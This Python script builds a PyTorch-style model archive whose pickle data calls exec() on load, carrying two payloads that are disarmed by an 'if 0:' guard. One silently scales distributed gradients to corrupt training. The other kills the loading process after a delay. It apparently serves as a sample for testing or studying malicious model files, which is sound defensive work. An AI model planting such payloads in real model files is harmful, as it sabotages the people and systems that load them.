#!/usr/bin/env python3
"""make.py [FILE] - writes poisoned.pt: a model as torch.save writes it, with two attacks in it.

Needs Python alone. Loading a pickle calls what its maker named, with the arguments that its maker
chose. Here this is exec(), twice, with the text of a program. Both texts begin with `if 0:`, so
that they would do nothing even if they were run.
"""

from __future__ import annotations

import io
import pathlib
import pickle
import struct
import sys
import types
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from typing import Any

TARGET = pathlib.Path(__file__).with_name("poisoned.pt")

# Every training step goes on with gradients that are a little wrong, and nobody sees why.
WRONG_SUMS = (
    "if 0: import torch.distributed as d; whole = d.all_reduce;"
    " d.all_reduce = lambda t, *a, **k: whole(t.mul_(0.99), *a, **k)"
)
# The process that loaded the model dies, some time after it was loaded.
SUDDEN_DEATH = "if 0: import os, threading; threading.Timer(5, os._exit, [1]).start()"


class Attack:
    """What pickle writes as a call of exec()."""

    def __init__(self, program: str) -> None:
        self.program = program

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
        return exec, (self.program,)


def stand_in(module: str, name: str) -> Any:
    """Something that pickle takes for `module.name`, without that module."""
    value = type(name, (), {"__module__": module})
    sys.modules.setdefault(module, types.ModuleType(module))
    setattr(sys.modules[module], name, value)
    return value


class Tensor:
    """A tensor of float32 in the archive's only storage."""

    REBUILD = stand_in("torch._utils", "_rebuild_tensor_v2")
    STORAGE = stand_in("torch", "FloatStorage")

    def __init__(self, offset: int, shape: tuple[int, ...]) -> None:
        self.offset = offset
        self.shape = shape

    def __reduce__(self) -> tuple[Any, ...]:
        strides = (*self.shape[1:], 1)
        hooks: OrderedDict[str, object] = OrderedDict()
        return self.REBUILD, (Storage(), self.offset, self.shape, strides, False, hooks)


class Storage:
    """The bytes of all tensors: pickle writes what persistent_id() says of it."""


VALUES = (0.5, -1.0, 0.25, 2.0, 1.5, -0.75, 0.125, 1.0)


class Pickler(pickle.Pickler):
    """As torch.save pickles: storages are named, and lie beside."""

    def persistent_id(self, value: object) -> tuple[Any, ...] | None:
        if isinstance(value, Storage):
            return ("storage", Tensor.STORAGE, "0", "cpu", len(VALUES))
        return None


def main() -> None:
    target = sys.argv[1] if len(sys.argv) > 1 else TARGET
    model: OrderedDict[str, object] = OrderedDict(
        {
            "layer.weight": Tensor(0, (2, 3)),
            "layer.bias": Tensor(6, (2,)),
            "layer.scale": Attack(WRONG_SUMS),
            "layer.shift": Attack(SUDDEN_DEATH),
        }
    )
    stream = io.BytesIO()
    Pickler(stream, protocol=2).dump(model)
    members = {
        "data.pkl": stream.getvalue(),
        "byteorder": b"little",
        "data/0": struct.pack(f"<{len(VALUES)}f", *VALUES),
        "version": b"3\n",
    }
    with zipfile.ZipFile(target, "w") as archive:
        for name, data in members.items():
            # Of a fixed time, so that every run writes the same bytes.
            archive.writestr(zipfile.ZipInfo(f"poisoned/{name}"), data)


if __name__ == "__main__":
    main()
